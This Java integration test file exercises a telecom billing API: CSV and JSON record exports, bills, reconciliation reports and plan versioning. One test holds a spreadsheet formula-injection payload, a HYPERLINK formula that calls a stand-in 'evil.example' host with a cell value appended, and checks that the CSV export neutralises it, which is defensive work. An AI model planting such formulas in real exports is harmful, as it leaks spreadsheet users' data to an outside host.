package io.mobim.billing.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.mobim.billing.Traffic;
import io.mobim.billing.rating.RatingService;
import io.mobim.events.EventJson;
import io.mobim.events.charging.ChargingEvent;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import tools.jackson.databind.JsonNode;

/**
 * The billing API over HTTP, on a business day only this test uses (14 March 2031, London): records as JSON and CSV
 * with the trailer, the bill, the reconciliation report with a sequence gap and an SMS the SMS-C never confirmed,
 * and problem documents for bad requests.
 */
class BillingApiTest extends BillingDatabaseTest {

    private static final Instant DAY = Instant.parse("2031-03-14T09:00:00Z");

    @Value("${local.server.port}") int port;
    @Autowired RatingService rating;

    private final HttpClient http = HttpClient.newHttpClient();
    private String msisdn;
    private String node;
    private ChargingEvent unconfirmed;
    private ChargingEvent acme;

    @BeforeEach
    void aDayOfTraffic() {
        msisdn = "+447733" + (100_000 + ThreadLocalRandom.current().nextInt(899_999));
        node = "im-api-" + ThreadLocalRandom.current().nextInt(1_000_000);
        Traffic t = new Traffic(node, 1, msisdn, "VODAFONE_UK");
        ChargingEvent sent = t.sentSms(DAY, 1);                          // seq 1
        unconfirmed = t.receivedSmsUnconfirmed(DAY.plusSeconds(60));     // seq 2
        ChargingEvent help = t.serviceSms(DAY.plusSeconds(120));         // seq 3
        t.sentSms(DAY.plusSeconds(150), 1);                              // seq 4: lost on the way
        ChargingEvent client = t.receivedClient(DAY.plusSeconds(180));   // seq 5
        ChargingEvent twoSegments = t.sentSms(DAY.plusSeconds(240), 2);  // seq 6
        acme = new Traffic(node + "-b", 1, "+447799000001", "ACME_UK").sentClient(DAY);
        rating.rate(List.of(sent, unconfirmed, help, client, twoSegments, acme));
    }

    private HttpResponse<String> get(String path, String accept) throws Exception {
        return http.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).header("Accept", accept).GET().build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<String> send(String method, String path, String json) throws Exception {
        return http.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Content-Type", "application/json").header("Accept", "application/json")
                .method(method, json == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(json))
                .build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String enc(String msisdn) {
        return msisdn.replace("+", "%2B");
    }

    @Test
    void rated_records_as_json_and_as_csv_with_a_trailer_of_control_totals() throws Exception {
        HttpResponse<String> json = get("/api/v1/billing/records?msisdn=" + enc(msisdn) + "&period=2031-03", "application/json");
        assertThat(json.statusCode()).isEqualTo(200);
        JsonNode records = EventJson.mapper().readTree(json.body());
        assertThat(records.size()).isEqualTo(5);
        assertThat(records.get(0).get("amount").decimalValue()).isEqualByComparingTo("0.12");

        HttpResponse<String> csv = get("/api/v1/billing/records?msisdn=" + enc(msisdn) + "&period=2031-03", "text/csv");
        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.headers().firstValue("Content-Type")).hasValueSatisfying(v -> assertThat(v).startsWith("text/csv"));
        List<String> lines = csv.body().lines().toList();
        assertThat(lines.get(0)).startsWith("event_id,version,current,event_time,business_day,period,msisdn,");
        assertThat(lines).hasSize(7);
        assertThat(lines.get(6)).isEqualTo("TRAILER,5,0.48,0.00,GBP");
        assertThat(lines.get(3)).contains(",SERVICE_MESSAGE,");
    }

    @Test
    void an_smsc_reference_that_a_spreadsheet_would_run_is_neutralised_in_the_csv_export() throws Exception {
        // the SMS-C chooses its message ids: one that reads as a formula must not run in the billing team's spreadsheet
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"invoice\")";
        ChargingEvent e = new Traffic(node + "-x", 1, msisdn, "VODAFONE_UK").sentSms(DAY.plusSeconds(300), 1);
        rating.rate(List.of(ChargingEvent.builder().eventId(e.eventId()).eventTime(e.eventTime()).origin(e.nodeId(), e.sequence())
                .kind(e.kind()).channel(e.channel()).charged(e.chargedMsisdn(), e.chargedRole()).messageId(e.messageId())
                .sms(formula, 1).build()));

        String csv = get("/api/v1/billing/records?msisdn=" + enc(msisdn) + "&period=2031-03", "text/csv").body();
        String row = csv.lines().filter(l -> l.startsWith(e.eventId().toString())).findFirst().orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"invoice\"\")\",")
                .doesNotContain(",=HYPERLINK")
                // the subscriber's number and the amount are written as they are
                .contains("," + msisdn + ",").contains(",0.12,");
    }

    @Test
    void the_bill_of_a_period() throws Exception {
        JsonNode bill = EventJson.mapper().readTree(get("/api/v1/billing/bills/" + enc(msisdn) + "?period=2031-03",
                "application/json").body());
        assertThat(bill.get("totals").get(0).get("amount").decimalValue()).isEqualByComparingTo("0.48");
        assertThat(bill.get("totals").get(0).get("currency").asString()).isEqualTo("GBP");
        assertThat(bill.get("lines").size()).isEqualTo(4);   // SMS sent, SMS received, SMS service, client received
    }

    @Test
    void the_reconciliation_report_shows_the_gap_and_the_sms_the_smsc_never_confirmed() throws Exception {
        JsonNode report = EventJson.mapper().readTree(get("/api/v1/billing/reconciliation/2031-03-14", "application/json").body());
        String leg = unconfirmed.messageId() + ":RECEIVED";
        assertThat(report.get("threeWay").get("smsUnconfirmed").toString()).contains(leg);
        assertThat(report.get("threeWay").get("notRated").toString()).contains(acme.messageId() + ":SENT");
        assertThat(report.get("openRejectedByReason").get("UNKNOWN_PLAN").asInt()).isGreaterThanOrEqualTo(1);
        assertThat(report.get("sources").get("log").asString()).as("no message log configured: derived, and said so")
                .isEqualTo("billing-derived");
        assertThat(report.get("sources").get("log.detail").asString()).startsWith("FALLBACK");

        String csv = get("/api/v1/billing/reconciliation/2031-03-14", "text/csv").body();
        assertThat(csv).contains("GAP,2031-03-14," + node + ",4,4,1\r\n");
        assertThat(csv).contains("SEQUENCE,2031-03-14," + node + ",1,6,5,1\r\n");
        assertThat(csv).contains("MISMATCH,2031-03-14,SMS_UNCONFIRMED," + leg + "\r\n");
        assertThat(csv).contains("TOTAL,2031-03-14,VODAFONE_UK,SMS,SENT,GBP,");
        assertThat(csv.lines().filter(l -> l.startsWith("TRAILER,2031-03-14,GBP,"))).hasSize(1);
    }

    @Test
    void the_seed_plans_and_accounts() throws Exception {
        JsonNode plans = EventJson.mapper().readTree(get("/api/v1/billing/plans", "application/json").body());
        assertThat(plans.get("O2_DE").get(0).get("components").get(1).get("blockBytes").asLong()).isEqualTo(10_240);
        HttpResponse<String> put = send("PUT", "/api/v1/billing/accounts/" + enc(msisdn),
                "{\"planId\":\"ORANGE_UK\",\"validFrom\":\"2031-04-01T00:00:00Z\"}");
        assertThat(put.statusCode()).isEqualTo(200);
        JsonNode rows = EventJson.mapper().readTree(put.body());
        assertThat(rows.get(rows.size() - 1).get("planId").asString()).isEqualTo("ORANGE_UK");
        assertThat(rows.get(rows.size() - 1).get("source").asString()).isEqualTo("API");
    }

    @Test
    void a_plan_version_is_added_through_the_api_and_must_be_the_next_one() throws Exception {
        String planId = "API_" + ThreadLocalRandom.current().nextInt(1_000_000);
        String v1 = """
                {"planId":"%s","version":1,"name":"api test","activeFrom":"2031-01-01T00:00:00Z","currency":"EUR",
                 "rounding":"HALF_EVEN","decimals":2,
                 "components":[{"id":"IM_SENT","type":"PER_EVENT","directions":["SENT"],"channels":["SMS"],"price":"0.07"}]}
                """.formatted(planId);
        HttpResponse<String> created = send("POST", "/api/v1/billing/plans/" + planId + "/versions", v1);
        assertThat(created.statusCode()).isEqualTo(201);
        JsonNode versions = EventJson.mapper().readTree(get("/api/v1/billing/plans/" + planId, "application/json").body());
        assertThat(versions.get(0).get("components").get(0).get("price").decimalValue()).isEqualByComparingTo("0.07");

        HttpResponse<String> again = send("POST", "/api/v1/billing/plans/" + planId + "/versions", v1);
        assertThat(again.statusCode()).isEqualTo(400);
        assertThat(EventJson.mapper().readTree(again.body()).get("detail").asString())
                .isEqualTo("the next version of " + planId + " is 2, not 1");

        HttpResponse<String> invalid = send("POST", "/api/v1/billing/plans/" + planId + "/versions",
                v1.replace("\"version\":1", "\"version\":2").replace("\"type\":\"PER_EVENT\"", "\"type\":\"VOLUME\""));
        assertThat(invalid.statusCode()).isEqualTo(400);
        assertThat(EventJson.mapper().readTree(invalid.body()).get("detail").asString()).contains("VOLUME");
    }

    @Test
    void bad_requests_get_problem_documents() throws Exception {
        HttpResponse<String> badMsisdn = get("/api/v1/billing/records?msisdn=12ab&period=2031-03", "application/json");
        assertThat(badMsisdn.statusCode()).isEqualTo(400);
        assertThat(badMsisdn.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(EventJson.mapper().readTree(badMsisdn.body()).get("detail").asString()).contains("E.164");

        HttpResponse<String> unknownPlan = send("PUT", "/api/v1/billing/accounts/" + enc(msisdn), "{\"planId\":\"NOPE\"}");
        assertThat(unknownPlan.statusCode()).isEqualTo(400);
        assertThat(EventJson.mapper().readTree(unknownPlan.body()).get("detail").asString()).isEqualTo("unknown tariff plan NOPE");

        assertThat(get("/api/v1/billing/records?msisdn=" + enc(msisdn) + "&period=2031-13", "application/json").statusCode())
                .isEqualTo(400);
    }
}
